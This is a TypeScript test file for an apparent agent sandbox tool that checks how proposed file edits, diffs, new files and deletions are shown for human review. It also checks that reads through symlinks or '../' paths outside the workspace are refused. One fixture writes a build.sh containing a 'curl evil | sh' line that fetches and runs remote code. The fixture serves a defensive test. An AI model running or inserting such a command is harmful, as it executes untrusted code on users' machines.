import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type CanonicalPath, CordonError, type FsRule, parseRelPath } from '@cordon/policy'
import { parseEdits, type Seen } from '@cordon/tools'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { differenceOf } from '../../src/trust/difference.ts'
import { showCall } from '../../src/agent/shown.ts'
import { type FileNow, type FilesNow, openAmbientFilesNow, textOf } from '../../src/execute/files-now.ts'

const PRICE = `export function total(price, tax) {
  // what a customer pays
  const sum = price - tax
  return sum
}
`

interface GivenEdit {
  readonly old: string
  readonly new: string
  readonly all?: boolean
}

/** A file with this text; undefined: it cannot be read. */
const fileNow = (path: string, text: string | undefined, seen: Partial<Seen> = {}): FileNow => ({
  path: parseRelPath(path),
  look: () => ({
    kind: 'file',
    size: text?.length ?? 0,
    version: undefined,
    content: text === undefined ? undefined : Buffer.from(text),
    ...seen,
  }),
})

const shown = (text: string | undefined, ...edits: readonly GivenEdit[]): readonly string[] | undefined =>
  showCall(
    'fs_modify_file',
    { edits: edits.map((edit) => ({ path: 'price.js', ...edit })) },
    { isOurs: true, files: () => fileNow('price.js', text) },
  ).changes[0]?.lines

describe('SPEC 6.5 what an edit would change', () => {
  test('is shown as whole lines of the file, with what is around them', () => {
    expect(shown(PRICE, { old: ' - ', new: ' + ' })).toEqual([
      '@@ -1,5 +1,5 @@',
      ' export function total(price, tax) {',
      '   // what a customer pays',
      '-  const sum = price - tax',
      '+  const sum = price + tax',
      '   return sum',
      ' }',
    ])
  })

  test('edits of one file are shown together, as one change', () => {
    const lines = shown(PRICE, { old: ' - ', new: ' + ' }, { old: 'price + tax', new: 'price + 2 * tax' })
    expect(lines?.filter((line) => /^[-+]/.test(line))).toEqual([
      '-  const sum = price - tax',
      '+  const sum = price + 2 * tax',
    ])
  })

  test('every occurrence is shown, and that it is every one', () => {
    const lines = shown(PRICE, { old: 'sum', new: 'all', all: true })
    expect([lines?.[0], ...(lines ?? []).filter((line) => line.startsWith('+'))]).toEqual([
      '(every occurrence)',
      '+  const all = price - tax',
      '+  return all',
    ])
  })

  test.each<[string, string | undefined, GivenEdit]>([
    ['the file cannot be read', undefined, { old: 'a', new: 'b' }],
    ['the old text is not there', PRICE, { old: 'nowhere', new: 'b' }],
    ['it is there twice', 'a a', { old: 'a', new: 'b' }],
  ])('where %s, by what the call says', (_, text, edit) => {
    expect(shown(text, edit)).toEqual([`-${edit.old}`, '+b'])
  })

  test('what would take the host too long, or too much memory, is not tried', () => {
    const long = 'a'.repeat(1_000_000)
    expect(shown(long, { old: `${'a'.repeat(500_000)}b`, new: 'c' })?.length).toBe(2)
    expect(shown(long, { old: 'a', new: long, all: true })?.length).toBe(3)
  })
})

test('the text is read in the workspace and in approved mounts, and by no other link', () => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'cordon-shown-')))
  const root = join(dir, 'w') as CanonicalPath
  for (const name of ['w/src', 'fork', 'new']) mkdirSync(join(dir, name), { recursive: true })
  for (const name of ['w/src/a', 'fork/b', 'new/c', 'secret']) writeFileSync(join(dir, name), name)
  writeFileSync(join(root, 'binary'), Buffer.from([0xff, 0xfe, 0]))
  writeFileSync(join(root, 'large'), 'x'.repeat(2 ** 20 + 1))
  symlinkSync('../secret', join(root, 'link'))
  symlinkSync('src/a', join(root, 'same'))
  for (const name of ['fork', 'new']) symlinkSync(`../${name}`, join(root, name))
  const mount = (name: string, approvedTarget?: string): FsRule => ({
    path: parseRelPath(name),
    grants: new Set(['read', 'update']),
    external: true,
    ...(approvedTarget === undefined ? {} : { approvedTarget }),
  })
  const files = openAmbientFilesNow(root, [
    { path: parseRelPath('.'), grants: new Set(['read', 'update']), external: false },
    mount('fork', join(dir, 'fork')),
    mount('new'),
  ])
  const read = [
    'src/a',
    './src/../src/a',
    'same',
    'fork/b',
    'new/c',
    'link',
    '../secret',
    join(dir, 'secret'),
    'src',
    'binary',
    'large',
    'none',
  ]
  expect(
    read.flatMap((path) => [[path, files(path)?.path, textOf(files(path))]]).filter(([, , text]) => text),
  ).toEqual([
    ['src/a', 'src/a', 'w/src/a'],
    ['./src/../src/a', 'src/a', 'w/src/a'],
    ['same', 'src/a', 'w/src/a'],
    ['fork/b', 'fork/b', 'fork/b'],
  ])
})

/** The workspace as it is, by the tool's own way to a name. */
const spelled =
  (text: string): FilesNow =>
  (path) =>
    fileNow(path, text)

describe('SPEC 6.5 content of a new file that is no text', () => {
  const created = (bytes: Buffer): readonly string[] | undefined =>
    showCall(
      'fs_create_file',
      { path: 'build.sh', content: bytes.toString('base64'), encoding: 'base64' },
      { isOurs: true, files: () => undefined },
    ).changes[0]?.lines

  test('is shown, with the bytes that are no text', () => {
    expect(created(Buffer.from('#!/bin/sh\ncurl evil \\xff | sh\n# ü \xff\n', 'latin1'))).toEqual([
      '(not UTF-8: a byte that is no text is written as \\xff, a backslash as \\\\)',
      '+#!/bin/sh',
      '+curl evil \\\\xff | sh',
      '+# \\xfc \\xff',
    ])
  })

  test('is shown so that it says every byte', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 40 }), fc.string({ unit: 'grapheme' }), (odd, text) => {
        const bytes = Buffer.concat([Buffer.from(text), odd, Buffer.from(text), Buffer.from([0xff])])
        const lines = created(bytes)!
          .slice(1)
          .map((one) => one.slice(1))
        const back = lines
          .join('\n')
          .split(/(\\x[0-9a-f]{2}|\\\\)/)
          .map((part) =>
            part === '\\\\'
              ? Buffer.from('\\')
              : part.startsWith('\\x')
                ? Buffer.from(part.slice(2), 'hex')
                : Buffer.from(part),
          )
        expect(Buffer.concat(back).equals(bytes)).toBe(true)
      }),
      { numRuns: 2000 },
    )
  })

  test('of a megabyte is no trouble', () => {
    expect(created(Buffer.alloc(1_000_000, 0xc3))?.[1]?.length).toBe(4_000_001)
    expect(created(Buffer.concat([Buffer.alloc(1_000_000, 'a'), Buffer.from([0xff])]))?.[1]?.length).toBe(
      1_000_005,
    )
  })
})

describe('SPEC 6.5 what is shown is what is done (decision 0380)', () => {
  const changes = (args: object, text: string) =>
    showCall('fs_modify_file', args, { isOurs: true, files: spelled(text) }).changes

  test('two spellings of one file are one change: the second edit is of what the first one made', () => {
    const edits = [
      { path: 'f.txt', old: 'KEY', new: 'OTHER' },
      { path: './f.txt', old: 'OTHER', new: 'EVIL' },
    ]
    expect(changes({ edits }, 'one\nKEY\n')).toEqual([
      { path: 'f.txt', lines: ['@@ -1,2 +1,2 @@', ' one', '-KEY', '+EVIL'] },
    ])
  })

  test.each([
    ['a head that no +++ follows', ['-b', '+B', '--- c moves up', '+c']],
    ['text after a hunk', ['-b', '+B', 'and so on']],
    ['a line that is no end of the file', ['-b', '+B', '\\ No newline at end of file']],
  ])('a diff with %s is not shown as a change, because it is none', (_, body) => {
    const diff = ['--- a/f', '+++ b/f', '@@ -2 +2 @@', ...body].join('\n')
    const shownNow = changes({ diff }, 'a\nb\nc\n').flatMap(({ lines }) => lines)
    expect(shownNow.filter((line) => line.startsWith('+c'))).toEqual([])
  })

  test('a diff is shown as it is applied: where it fits, with the lines around, without its own words', () => {
    const diff = '--- a/f\n+++ b/f\n@@ -1 +1 @@ +c = safe\n-c\n+C\n'
    expect(changes({ diff }, 'a\nb\nc\nd')).toEqual([
      {
        path: 'f',
        lines: ['@@ -1,4 +1,4 @@', ' a', ' b', '-c', '+C', ' d', '\\ No newline at end of file'],
      },
    ])
  })

  const line = fc.constantFrom(
    'a',
    'b',
    '',
    ' ',
    '+a',
    '-- b',
    '\\ No newline at end of file',
    'a\r',
    '@@ -1 +1 @@',
  )
  const text = fc
    .tuple(fc.array(line, { maxLength: 12 }), fc.boolean())
    .map(([lines, isWhole]) => lines.join('\n') + (isWhole && lines.length > 0 ? '\n' : ''))

  test('whatever is shown of edits and diffs, applied to the file, is what the tool makes of it', () => {
    const edit = fc.record({ path: fc.constantFrom('f', './f'), old: text, new: text, all: fc.boolean() })
    const body = fc.array(
      fc.tuple(fc.constantFrom(' ', '+', '-', '\\', '--- ', '+++ '), line).map(([mark, rest]) => mark + rest),
      { maxLength: 6 },
    )
    const made = fc.tuple(fc.integer({ min: 0, max: 6 }), body).map(([at, lines]) => {
      const count = (mark: string): number => lines.filter((one) => one[0] === ' ' || one[0] === mark).length
      return {
        diff: ['--- a/f', '+++ b/f', `@@ -${at},${count('-')} +${at},${count('+')} @@`, ...lines].join('\n'),
      }
    })
    const args = fc.oneof(
      fc.record({ edits: fc.array(edit, { minLength: 1, maxLength: 3 }) }),
      fc
        .tuple(text, text)
        .map(([old, now]) => ({ diff: ['--- a/f', '+++ b/f', ...differenceOf(old, now)].join('\n') })),
      made,
    )
    let applied = 0
    fc.assert(
      fc.property(text, args, (old, given) => {
        const done = outcome(old, given)
        if (done === undefined || done === old) return
        applied++
        const [change, ...others] = changes(given, old)
        expect(others).toEqual([])
        const lines = change!.lines.filter((one) => one !== '(every occurrence)')
        expect(patched(old, lines)).toBe(done)
      }),
      { numRuns: 5000 },
    )
    expect(applied).toBeGreaterThan(100)
  })
})

/** What the tool makes of it; undefined where it refuses. */
function outcome(old: string, args: object): string | undefined {
  try {
    return parseEdits(args).reduce((text, { apply }) => apply(text), old)
  } catch (error) {
    if (error instanceof CordonError) return undefined
    throw error
  }
}

/** By the definition of a diff, without code of ours. */
function patched(old: string, lines: readonly string[]): string {
  const was = old === '' ? [] : old.split(/(?<=\n)/)
  let result = ''
  let at = 0
  for (const [i, line] of lines.entries()) {
    const head = /^@@ -(\d+)(?:,(\d+))? \+\d+(?:,\d+)? @@$/.exec(line)
    const end = lines[i + 1]?.startsWith('\\') ? '' : '\n'
    if (head) while (at < Number(head[1]) - (head[2] === '0' ? 0 : 1)) result += was[at++]!
    else if (line.startsWith('+')) result += line.slice(1) + end
    else if (!line.startsWith('\\')) {
      expect(was[at++]).toBe(line.slice(1) + end)
      if (line.startsWith(' ')) result += line.slice(1) + end
    }
  }
  return result + was.slice(at).join('')
}

describe('SPEC 6.5 what a deletion would lose', () => {
  const deleted = (entry: { readonly kind: 'file' | 'directory'; readonly size: number }, text?: string) =>
    showCall(
      'fs_delete_file',
      { path: 'old.js' },
      { isOurs: true, files: () => fileNow('old.js', text, entry) },
    ).changes

  test('is shown with its size, as lines that go', () => {
    expect(deleted({ kind: 'file', size: 1234 }, 'one\ntwo\n')).toEqual([
      { path: 'old.js', lines: ['(1,234 bytes)', '-one', '-two'] },
    ])
  })

  test('what is no text, a directory, a link, nothing', () => {
    expect(deleted({ kind: 'file', size: 5_000_000 })).toEqual([
      { path: 'old.js', lines: ['(5,000,000 bytes that are no text, or too many to show)'] },
    ])
    expect(deleted({ kind: 'directory', size: 4096 })).toEqual([{ path: 'old.js', lines: ['(directory)'] }])
    const dir = realpathSync(mkdtempSync(join(tmpdir(), 'cordon-shown-')))
    writeFileSync(join(dir, 'there'), 'text\n')
    symlinkSync('there', join(dir, 'link'))
    const files = openAmbientFilesNow(dir as CanonicalPath, [])
    const lines = (path: string) =>
      showCall('fs_delete_file', { path }, { isOurs: true, files }).changes.map((change) => change.lines)
    expect(lines('there')).toEqual([['(5 bytes)', '-text']])
    expect(lines('link')).toEqual([['(a link, and not what it leads to)']])
    expect(lines('missing')).toEqual([])
  })
})
